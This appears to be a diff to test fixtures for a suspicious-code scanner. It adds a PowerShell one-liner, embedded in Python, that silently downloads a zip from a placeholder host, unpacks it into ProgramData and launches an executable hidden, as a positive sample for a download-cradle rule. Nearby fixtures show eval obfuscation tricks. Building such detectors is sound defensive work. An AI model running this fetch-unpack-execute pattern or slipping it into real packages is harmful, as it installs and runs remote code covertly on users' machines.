@@ -324,6 +324,16 @@ HYPERION_SHAPE = (
     "Math('print(\"FIXTURE_OK\")')\n"
 )
 BUILTIN_ALIASES = "_exec, _eval = exec, eval\nPY3, text_type, binary_type = True, str, bytes\n"
+# Fetch, unpack and start hidden, in one PowerShell line (harmless hosts and names).
+PS_FETCH_UNPACK_START = (
+    "import subprocess\n"
+    "def run(cmd):\n    subprocess.Popen(cmd, shell=True)\n"
+    "run(r\"powershell -command $ProgressPreference = 'SilentlyContinue'; "
+    "$ErrorActionPreference = 'SilentlyContinue'; Invoke-WebRequest -UseBasicParsing -Uri "
+    "https://files.example.invalid/a/update.zip -OutFile $env:tmp/update.zip; Expand-Archive "
+    "-Force -LiteralPath $env:tmp/update.zip -DestinationPath C:/ProgramData; Remove-Item "
+    '$env:tmp/update.zip; Start-Process -WindowStyle Hidden -FilePath helper.exe")\n'
+)
 OBF_BANNER = "# Obfuscated with FixtureObf\n# https://obf.example.invalid\nprint(1)\n"
 UNDERSCORE_EVAL = '_____=eval("\\x65\\x76\\x61\\x6c")\n_____("print(1)")\n'
 OBF_COMMENT = "# The token is obfuscated by default; see docs.\nTOKEN = '***'\n"
@@ -484,7 +494,12 @@ FIXTURES_PATTERNS: dict[str, RuleFixtures] = {
         benign=[python(CURL_ARGV), other(INSTALL_SH, "scripts/install.sh")],
     ),
     "windows-download-cradle": RuleFixtures(
-        positive=[setup_py(WEBCLIENT), python(CERTUTIL), python(BITSADMIN)],
+        positive=[
+            setup_py(WEBCLIENT),
+            python(CERTUTIL),
+            python(BITSADMIN),
+            setup_py(PS_FETCH_UNPACK_START),
+        ],
         benign=[python(CERTUTIL_STORE), other(PS1_SCRIPT, "ci/fetch.ps1")],
     ),
     "powershell-encoded-command": RuleFixtures(
